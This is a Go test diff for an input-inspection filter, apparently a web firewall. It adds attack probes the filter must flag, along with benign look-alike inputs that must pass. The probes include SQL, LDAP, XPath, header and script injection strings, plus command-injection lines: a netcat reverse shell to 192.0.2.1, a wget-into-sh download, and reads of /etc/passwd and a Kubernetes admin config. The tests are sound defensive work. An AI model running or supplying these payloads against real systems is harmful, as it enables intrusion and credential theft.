@@ -37,6 +37,17 @@ func TestProbesOfListsAreNamed(t *testing.T) {
 		{"a cluster's secrets", "/etc/kubernetes/admin.conf", "traversal"},
 		{"the ending is cut off", "a.php\x00.jpg", "traversal"},
 		{"a cmdlet behind a separator", "x& powershell Start-Sleep -s 5", "cmdi"},
+		{"a case within arithmetic", "'-(case when a regexp '^b' then 0 else 1 end)-'", "sqli"},
+		{"a union with plus signs for spaces", "-1'+union+all+select+1,a,3+from+b", "sqli"},
+		{"a statement that waits", "; waitfor delay '0:0:5'--", "sqli"},
+		{"a directory behind text", "photo ldap://x.test:1389/a", "ssrf"},
+		{"signs that filters are made of", "x*()|&'", "ldap"},
+		{"any node", "'or/*/a[1]='b", "xpath"},
+		{"a mail's end and its text", "x\r\nSubject: you won\r\n\r\nhello", "mail"},
+		{"an answer of its own", "x\r\nHTTP/1.1 200 OK", "crlf"},
+		{"a script in a link of Markdown", "[a]: javascript:b", "xss"},
+		{"a call by a spelled name", "; & ('i'+'ex') 'whoami'", "cmdi"},
+		{"a file to include, the rest cut off", "http://x.test/a.txt?", "traversal"},
 		{"a type of .NET behind a separator", "x;[System.Net.Dns]::GetHostAddresses('x.test')", "cmdi"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
@@ -61,6 +72,19 @@ func TestWhatPeopleReportPasses(t *testing.T) {
 		{"a pipeline of cmdlets", "body", `Get-ChildItem -Path C:\Temp | Remove-Item`},
 		{"a filter of jq", "filter", `map(select(.status == "open")) | length`},
 		{"an apostrophe within quotation marks", "jql", `text ~ "can't log in" AND created >= -7d`},
+		{"a table", "note", "| id | name |\n|----|------|\n| 7 | pen |"},
+		{"a word in quotation marks", "title", `the "or" gate`},
+		{"two words in quotation marks", "note", "Try 'red' or 'blue' -- both will do."},
+		{"a wish", "note", "Please update the table in the hall and select a new lamp."},
+		{"a question about a database", "note", "What does WAITFOR DELAY do?"},
+		{"a pipe into a filter", "note", "On Windows open a window and enter ipconfig | findstr IPv4"},
+		{"commands in a sentence", "note", "ping takes me 30 ms; traceroute shop.test shows twelve hops."},
+		{"lines of statements", "note", "CREATE TABLE pets (age INT);\nINSERT INTO pets VALUES (1);"},
+		{"a path into a document", "path", "$..a[*]['b','c']"},
+		{"a filter of a directory", "filter", "(&(a=b)(|(c=d)(e=f)))"},
+		{"an address of a mailbox", "url", "mailto:a@b.test?subject=hi"},
+		{"an application that listens", "url", "https://x.test/auth?redirect_uri=http://127.0.0.1:8123/cb"},
+		{"a script with a head", "note", "#!/bin/sh\nset -eu\nfor f in *.txt; do\n  wc -l \"$f\"\ndone"},
 		{"commands of a modem", "body", "GPIO17=1; AT+CSQ;"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
@@ -68,6 +92,34 @@ func TestWhatPeopleReportPasses(t *testing.T) {
 				t.Errorf("%q counts as %s", c.value, got)
 			}
 		})
+	}
+}
+
+func TestAFilesStructureIsNoWayAround(t *testing.T) {
+	in := New()
+	for _, value := range []string{
+		"a:\n\tmake b\n\t; cat /etc/passwd", "FROM a\nRUN b\nRUN x; nc 192.0.2.1 4444 -e /bin/sh", "-a\n+b\n+`curl x.test`",
+		"| a |\n|---|\n; id\n", "#!/bin/sh\nset -eu\n\tcd a\n\twget http://x.test/y|sh",
+	} {
+		if got := found(in, ZoneJSON, "text", value); got != "cmdi" {
+			t.Errorf("%q counts as %q", value, got)
+		}
+	}
+}
+
+func TestStreamsOfObjectsAreFoundWhateverTheirType(t *testing.T) {
+	in := New()
+	for name, body := range map[string]string{
+		"java-stream": "\xac\xed\x00\x05sr\x00\x11java", "net-formatter": "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00",
+		"python-pickle": "\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix",
+	} {
+		in.Begin([]byte("POST"))
+		b := in.Body([]byte("application/octet-stream"))
+		b.Feed([]byte(body))
+		b.End()
+		if w := in.Worst(); w == nil || w.Rule != name {
+			t.Errorf("%s: %+v", name, w)
+		}
 	}
 }
 
